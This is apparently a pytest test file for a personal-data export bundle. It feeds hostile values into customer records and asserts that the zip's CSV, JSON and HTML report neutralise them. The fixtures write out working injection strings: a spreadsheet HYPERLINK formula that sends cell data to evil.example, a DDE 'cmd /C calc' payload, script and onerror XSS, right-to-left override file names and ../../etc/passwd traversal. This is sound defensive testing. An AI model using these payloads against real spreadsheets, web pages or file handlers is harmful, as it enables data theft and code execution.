"""Whatever the sources hold, the bundle is right and safe to open: formulas, markup, odd names of files, no text, long values."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from typing import TYPE_CHECKING, Any

import pytest

from assets.rights.export import export
from tests.helpers.records import call, chat, customer
from tests.helpers.requests import file_verified
from tests.helpers.small import Small

if TYPE_CHECKING:
    from pathlib import Path

EMAIL, PHONE = "aino@koe.example", "+358401112222"
TEXTS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\u200e=1+1",
    "\uff1d1+1",
    "</td></table><script>alert(1)</script><img src=x onerror=alert(2)>",
    "{{ 7 * 7 }} {% raw %} ${x} <!-- --> ]]>",
    "one\r\ntwo\nthree\rfour\x0b\x0c\x85\u2028five",
    "right to left \u202egnp.exe\u202c and \u0000 nothing",
    "a\u0301\u0327\ufeff\U0001f9d1\u200d\U0001f680\U000e0041",
    "quotes \"double\" 'single' ; , \\ / ../../etc/passwd",
)
NAMES = ("\u202egnp.WAV", "CON.wav", "=cmd.wav", "x" * 240 + ".wav", "a b;c&<d>.wav", "no ending", "dots...wav", "öljý.wav")
LONG = "long " * 200_000


@pytest.fixture(scope="module")
def members(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The bundle of a customer in whose records all of that stands."""
    made = Small(tmp_path_factory.mktemp("hostile"))
    made.deliver("shop", [customer(1, email=EMAIL, phone=PHONE, name="<b>Aino</b> =1+1")])
    chats = [chat(number, email=EMAIL, text=text) for number, text in enumerate((*TEXTS, LONG))]
    lines = "".join(json.dumps(each) + "\n" for each in chats).encode()
    (made.data / "chats" / "records.ndjson").write_bytes(
        lines + b'{"id": "bad", "email": "aino@koe.example", "text": "\xff\xfe\xc3(", "ended_at": 1}\n'
    )
    made.deliver(
        "calls", [call(number, phone=PHONE, audio=name) for number, name in enumerate((*NAMES, "../../../etc/passwd"))], "calls.csv"
    )
    for name in NAMES:
        (made.data / "calls" / name).write_bytes(b"RIFF" + name.encode())
    made.ingest("shop", "chats", "calls")
    request = file_verified(made.register.ledger, "access", "en", [("email", EMAIL)], made.register.clock.now())
    path = export(made.register, request.id).path
    made.close()
    return _read(path)


def _read(path: Path) -> dict[str, bytes]:
    """The members, of a file that two programs find whole."""
    unzip = shutil.which("unzip")
    if unzip is not None:
        assert subprocess.run([unzip, "-tqq", path], check=False).returncode == 0
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def _chats(members: dict[str, bytes]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(members["data/chats_conversations.json"])
    return sorted(found, key=lambda each: int(each["id"].partition("-")[2]))


def test_values_are_as_they_were(members: dict[str, bytes]) -> None:
    """The JSON has each text letter for letter, the one of a million letters too."""
    shown = [each["text"] for each in _chats(members)]
    assert list(TEXTS) == [text.replace("á", "a\u0301") for text in shown[: len(TEXTS)]]
    assert shown[len(TEXTS)] == LONG


def test_no_cell_is_a_formula(members: dict[str, bytes]) -> None:
    """Every cell of every CSV that a spreadsheet would reckon out begins with an apostrophe, and the file has as many rows as records."""
    csv.field_size_limit(2 * len(LONG))
    for name, content in members.items():
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
            cells = [cell for row in rows for cell in row]
            assert [cell for cell in cells if re.match(r"[\s\u200e]*[=@\uff1d]|\+1\+", cell)] == []
            assert {len(row) for row in rows} == {len(rows[0])}
            assert len(rows) - 1 == len(json.loads(members[f"{name[:-4]}.json"])) or name == "data/facts.csv"


def test_the_report_runs_and_fetches_nothing(members: dict[str, bytes]) -> None:
    """What looks like markup is text in the report."""
    page = members["report.html"].decode()
    assert re.findall(r"<(script|img|iframe|object|link|b)\b", page) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_nothing_unseen_does_harm(members: dict[str, bytes]) -> None:
    """No page or CSV holds a control character or what turns the text after it around; it is said that some stood there."""
    for name, content in members.items():
        if name.endswith((".html", ".csv")):
            assert re.findall("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\u202d\u202e]", content.decode()) == []
    page, listed = members["report.html"].decode(), members["data/chats_conversations.csv"].decode()
    for said in (page, listed):
        assert "right to left \ufffdgnp.exe\u202c and \ufffd nothing" in said
    assert "stand as \ufffd here and in the CSV files" in page


def test_names_of_members_are_ours(members: dict[str, bytes]) -> None:
    """No name out of a source is a member's: members are plain ASCII, without a way out of the folder, and none a device of Windows."""
    seal = {"SHA256SUMS", "VERIFY.html", "VERIFY.txt", "manifest.json.sig"}
    ours = r"(?:audio/|data/)?[a-z][a-z0-9_]*(?:-\d+)?(?:\.[a-z0-9]{1,5})?"
    assert [name for name in members if name not in seal and not re.fullmatch(ours, name)] == []
    assert len({name.lower() for name in members}) == len(members)
    assert [name for name in members if re.match(r"(?:.*/)?(?:con|prn|aux|nul|com\d|lpt\d)\b", name)] == []


def test_each_recording_is_there(members: dict[str, bytes]) -> None:
    """Each file is the one that its row names, whatever it was called there; what lies outside the source's folder was never read."""
    rows = json.loads(members["data/calls_recordings.json"])
    audio = {name: content for name, content in members.items() if name.startswith("audio/")}
    assert sorted(NAMES) == sorted(row["audio.at_source"] for row in rows)
    assert {row["audio"]: b"RIFF" + row["audio.at_source"].encode() for row in rows} == audio
    assert not any(b"root:x:0:0" in content for content in members.values())


def test_what_is_no_text_is_told(members: dict[str, bytes]) -> None:
    """A record that is no UTF-8 is told of as one that could not be read."""
    assert len(json.loads(members["data/quarantine.json"])) >= 1
